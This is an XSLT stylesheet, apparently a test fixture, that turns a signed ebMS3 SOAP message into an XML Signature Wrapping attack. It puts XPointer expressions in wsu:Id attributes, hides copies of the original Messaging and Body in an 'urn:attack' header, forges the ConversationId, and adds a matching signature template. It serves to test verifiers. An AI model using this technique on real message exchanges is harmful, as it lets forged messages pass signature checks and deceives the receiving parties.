<?xml version="1.0"?>
<!-- A signature template whose References are XPointer expressions; the
     processed eb:Messaging and soap:Body carry those expressions as their
     wsu:Id, so a check that looks the URI's text up as an id finds them,
     while an XPointer-evaluating verifier digests the copies hidden in
     another header block.  The processed eb:Messaging is forged.  Signed
     by tests/forge/dsig_forge with the peer's own key. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:env="http://www.w3.org/2003/05/soap-envelope"
    xmlns:eb="http://docs.oasis-open.org/ebxml-msg/ebms/v3.0/ns/core/200704/"
    xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
    xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
    xmlns:ds="http://www.w3.org/2000/09/xmldsig#">
  <xsl:import href="identity.xsl"/>
  <xsl:param name="m">xpointer(id('signed-messaging'))</xsl:param>
  <xsl:param name="b">xpointer(id('signed-body'))</xsl:param>
  <xsl:param name="sigalg">http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256</xsl:param>
  <xsl:template match="env:Header">
    <xsl:copy>
      <xsl:apply-templates select="@*|node()"/>
      <Hidden xmlns="urn:attack">
        <xsl:apply-templates select="eb:Messaging" mode="hidden"/>
        <xsl:apply-templates select="../env:Body" mode="hidden"/>
      </Hidden>
    </xsl:copy>
  </xsl:template>
  <xsl:template match="eb:Messaging" mode="hidden">
    <xsl:copy><xsl:copy-of select="@*"/><xsl:attribute name="wsu:Id">signed-messaging</xsl:attribute><xsl:copy-of select="node()"/></xsl:copy>
  </xsl:template>
  <xsl:template match="env:Body" mode="hidden">
    <xsl:copy><xsl:copy-of select="@*"/><xsl:attribute name="wsu:Id">signed-body</xsl:attribute><xsl:copy-of select="node()"/></xsl:copy>
  </xsl:template>
  <xsl:template match="eb:Messaging/@wsu:Id">
    <xsl:attribute name="wsu:Id"><xsl:value-of select="$m"/></xsl:attribute>
  </xsl:template>
  <xsl:template match="env:Body/@wsu:Id">
    <xsl:attribute name="wsu:Id"><xsl:value-of select="$b"/></xsl:attribute>
  </xsl:template>
  <xsl:template match="eb:Messaging//eb:ConversationId/text()">forged</xsl:template>
  <xsl:template match="wsse:Security">
    <xsl:copy>
      <xsl:apply-templates select="@*|node()"/>
      <ds:Signature>
        <ds:SignedInfo>
          <ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>
          <ds:SignatureMethod Algorithm="{$sigalg}"/>
          <ds:Reference URI="#{$m}">
            <ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>
            <ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>
            <ds:DigestValue/>
          </ds:Reference>
          <ds:Reference URI="#{$b}">
            <ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>
            <ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>
            <ds:DigestValue/>
          </ds:Reference>
        </ds:SignedInfo>
        <ds:SignatureValue/>
      </ds:Signature>
    </xsl:copy>
  </xsl:template>
</xsl:stylesheet>
